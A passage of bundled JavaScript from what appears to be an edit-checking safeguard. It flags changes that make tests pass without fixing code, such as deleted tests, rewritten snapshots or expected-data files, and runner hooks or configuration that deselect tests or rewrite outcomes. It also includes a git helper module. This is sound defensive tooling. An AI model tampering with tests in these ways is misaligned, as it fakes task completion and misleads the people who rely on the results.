 * and the final run, `reportedConfigFindings` the configuration file the runner says it read, and collection.ts asks
 * the runner which tests it collects before and after.
 */











const isSnapshotPath = (p) => /(^|\/)__snapshots__\//.test(p) || /\.(snap|ambr|golden)$/.test(p);
/**
 * A data file the tests read, rewritten or deleted: the expected values moved out of the test body (`expected.json`
 * that a test loads by name, a CSV under `tests/`) are the test too. A new data file is no rewrite.
 */
function dataFinding(change, options) {
    const { path: p, before, after } = change;
    if (before === null || langOf(p) !== null || isSnapshotPath(p))
        return [];
    const named = options.testReads?.includes(p);
    if (!named && !isTestPath(p))
        return [];
    const why = named ? 'a data file the tests read by name' : 'test data';
    return [
        {
            path: p,
            kind: 'test-data-rewrite',
            detail: `${p}: ${why} ${after === null ? 'deleted' : 'rewritten'}: what the tests expect changed, not the code`,
        },
    ];
}
function analyze(change, options = {}) {
    const result = { change, findings: [], deleted: [], added: [], deletedFile: false };
    const { path: p, before, after } = change;
    if (before === after)
        return result;
    // Configuration that deselects tests or is the runner's own, and hooks that rewrite outcomes; elsewhere, code outside
    // the tests that reaches into the runner or the process (a setup file's reach is its hook finding already).
    const runnerCode = [...configFindings(change), ...hookFindings(change)];
    result.findings.push(...runnerCode, ...(runnerCode.length ? [] : [...tamperFindings(change), ...dataFinding(change, options)]));
    if (isSnapshotPath(p)) {
        if (before !== null) {
            result.findings.push({
                path: p,
                kind: 'snapshot-rewrite',
                detail: after === null ? `snapshot file ${p} deleted` : `snapshot file ${p} rewritten`,
            });
        }
        return result;
    }
    const lang = langOf(p);
    const testFile = isTestPath(p);
    const beforeCode = lang && before !== null ? stripComments(before, lang) : '';
    const afterCode = lang && after !== null ? stripComments(after, lang) : '';
    // Rust keeps unit tests inside the source files.
    const inlineTests = lang === 'rs' && /#\[(cfg\()?test\b/.test(beforeCode + afterCode);
    if (!testFile && !inlineTests)
        return result;
    if (after === null) {
        result.deletedFile = testFile;
        if (lang)
            result.deleted = testCases(beforeCode, lang);
        return result;
    }
    if (!lang)
        return result;
    const casesBefore = before === null ? [] : testCases(beforeCode, lang);
    const casesAfter = testCases(afterCode, lang);
    const { deleted, added } = caseChanges(casesBefore, casesAfter);
    const findings = [
        ...result.findings,
        ...skipFindings(p, beforeCode, afterCode, lang),
        ...assertionFindings(p, casesBefore, casesAfter, lang),
    ];
    return { change, findings, deleted, added, deletedFile: false };
}
/**
 * Findings for a whole change set. A test that moved (deleted in one file, added in another) is not a finding.
 */
function checkIntegrity(changes, options = {}) {
    const analyses = changes.map((c) => analyze(c, options));
    const deletions = deletionFinder(analyses, options);
    return analyses.flatMap((a) => [...deletions(a), ...a.findings]);
}
/** The same check for one edit, before it is written (the edit tools' `deny` mode). */
function checkEditIntegrity(path, before, after, options = {}) {
    return checkIntegrity([{ path, before, after }], options);
}
/** The tests a change set deletes (a test moved to a path its runner collects is kept): file and bare name. */
function deletedTests(changes, options = {}) {
    return goneTests(changes.map((c) => analyze(c, options)), options);
}


/***/ }),

/***/ 3133:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   $Y: () => (/* binding */ git),
/* harmony export */   Ek: () => (/* binding */ gitSteps),
/* harmony export */   Z2: () => (/* binding */ ignoreRule),
/* harmony export */   tj: () => (/* binding */ isGitRepo)
/* harmony export */ });
/* harmony import */ var _git_runner_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(6916);
/** git for the workspace (snapshots, diffs, file lists): the one hardened runner of src/git/. */

/** Run git in `cwd`; returns stdout. Throws GitError (src/git/runner.ts) on failure. */
function git(cwd, args, options = {}) {
    return (0,_git_runner_js__WEBPACK_IMPORTED_MODULE_0__/* .runGit */ .EO)(cwd, args, options);
}
/** Several git commands in `cwd` started by one shell (src/git/runner.ts); returns what they printed, in order. */
function gitSteps(cwd, steps, options = {}) {
    return (0,_git_runner_js__WEBPACK_IMPORTED_MODULE_0__/* .runGitSteps */ .f9)(cwd, steps, options);
}
async function isGitRepo(cwd) {
    try {
        return (await git(cwd, ['rev-parse', '--is-inside-work-tree'])).trim() === 'true';
    }
    catch {
        return false;
    }
}
/**
 * The ignore rule that makes the untracked path `rel` (workspace-relative) ignored, as `source:line: pattern`, or
 * undefined when git does not ignore it (tracked files never are).
 */
async function ignoreRule(root, rel) {
    // `./` first: check-ignore reads pathspec magic (a file named `:(top)x`) and refuses literal pathspecs.
    const out = await git(root, ['check-ignore', '-v', '-z', '--stdin'], { input: `./${rel}\0`, okCodes: [1] });
    const [source, line, pattern] = out.split('\0');
    return pattern ? `${source}:${line}: ${pattern}` : undefined;
}


/***/ })

};
